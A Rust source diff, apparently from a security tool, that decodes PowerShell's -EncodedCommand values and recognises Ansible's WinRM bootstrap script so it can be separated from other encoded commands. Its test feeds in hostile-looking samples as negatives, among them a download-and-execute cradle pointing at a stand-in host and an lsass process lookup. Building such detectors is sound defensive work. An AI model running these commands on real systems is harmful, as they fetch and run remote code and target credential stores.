@@ -1,5 +1,7 @@
 //! Options of PowerShell's command line, which may be typed as short as they are plain: `-w 1`, `-win hidden`, `-exec bypass`, `-enc`.
 
+use base64::prelude::{BASE64_STANDARD, Engine};
+
 /// What a command line asks PowerShell for.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
 pub(crate) struct Asked {
@@ -39,9 +41,104 @@ impl Asked {
     }
 }
 
+/// How often a command that is encoded may hold another one.
+const MOST_LAYERS: usize = 3;
+
+/// Is it the command with which Ansible begins each of its steps over WinRM, `powershell -EncodedCommand …`? It runs what comes
+/// through its standard input, so that it says nothing of what was done.
+pub(crate) fn is_ansible(line: &str) -> bool {
+    let mut script = line.to_owned();
+    let mut layers = 0;
+    while layers < MOST_LAYERS
+        && let Some(inner) = encoded(&script).and_then(decoded)
+    {
+        script = inner;
+        layers += 1;
+    }
+    layers > 0 && is_bootstrap(&script)
+}
+
+/// The Base64 of `-EncodedCommand`. What is a script itself names no such option first.
+fn encoded(line: &str) -> Option<&str> {
+    let line = line.trim_start().trim_start_matches(['"', '&', ' ']);
+    let (program, rest) = line.split_once(char::is_whitespace)?;
+    let program = crate::program::file_name(program).trim_end_matches('"').to_ascii_lowercase();
+    if !matches!(program.as_str(), "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe") {
+        return None;
+    }
+    let mut words = rest.split_whitespace();
+    while let Some(word) = words.next() {
+        let Some(option) = word.strip_prefix(['-', '/']).map(str::to_ascii_lowercase) else { continue };
+        let means = |whole: &str| !option.is_empty() && whole.starts_with(&option);
+        if means("encodedcommand") || option == "ec" {
+            return words.next().map(|value| value.trim_matches(['"', '\'']));
+        }
+        if means("command") || means("file") {
+            return None;
+        }
+    }
+    None
+}
+
+/// PowerShell's Base64 is of UTF-16.
+fn decoded(text: &str) -> Option<String> {
+    let bytes = BASE64_STANDARD.decode(text).ok()?;
+    let (pairs, _) = bytes.as_chunks::<2>();
+    Some(String::from_utf16_lossy(&pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect::<Vec<_>>()))
+}
+
+/// The scripts of Ansible's versions: those since 2.8 are short, the one before was the whole wrapper.
+fn is_bootstrap(script: &str) -> bool {
+    let text = script.trim().to_lowercase();
+    let begins = |with: &[&str]| with.iter().any(|begin| text.starts_with(begin));
+    let short = text.len() <= 800
+        && begins(&["&chcp.com 65001 > $null", "try {", "if ($psversiontable"])
+        && text.contains("$exec_wrapper_str = $input | out-string")
+        && text.contains("[scriptblock]::create($split_parts[0])");
+    let whole = text.len() <= 8_000
+        && begins(&["#requires -version 3.0", "begin {"])
+        && text.contains("function convertto-hashtablefrompscustomobject")
+        && text.contains("$output = $entrypoint.run($payload)");
+    short || whole
+}
+
+/// What `-EncodedCommand` is given.
+#[cfg(test)]
+pub(crate) fn encode(script: &str) -> String {
+    BASE64_STANDARD.encode(script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_ansible_begins_with_and_what_only_looks_like_it() {
+        let bootstrap = "&chcp.com 65001 > $null\n$exec_wrapper_str = $input | Out-String\n\
+            $split_parts = $exec_wrapper_str.Split(@(\"`0`0`0`0\"), 2, [StringSplitOptions]::RemoveEmptyEntries)\n\
+            Set-Variable -Name json_raw -Value $split_parts[1]\n\
+            $exec_wrapper = [ScriptBlock]::Create($split_parts[0])\n&$exec_wrapper";
+        let options = "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand";
+        let once = |script: &str| format!("PowerShell {options} {}", encode(script));
+        // The shell of winrs is given a command that calls PowerShell once more.
+        let twice = format!(
+            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" {options} {}"#,
+            encode(&once(bootstrap))
+        );
+        assert!(encode("PowerShell ").starts_with("UABvAHcAZQByAFMAaABlAGwAbAA"));
+        assert!(is_ansible(&once(bootstrap)) && is_ansible(&twice));
+        for other in [
+            once("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"),
+            once(&once("Get-Process lsass")),
+            once(&format!("Get-Process lsass\n{bootstrap}")),
+            once(&format!("{bootstrap}\n{}", "x".repeat(2000))),
+            "powershell -enc not-base64!".to_owned(),
+            format!("powershell -Command {bootstrap}"),
+            "cmd /c whoami".to_owned(),
+        ] {
+            assert!(!is_ansible(&other), "{other}");
+        }
+    }
 
     fn of(line: &str) -> [bool; 3] {
         let Asked { hidden, encoded, bypass } = Asked::of(line);
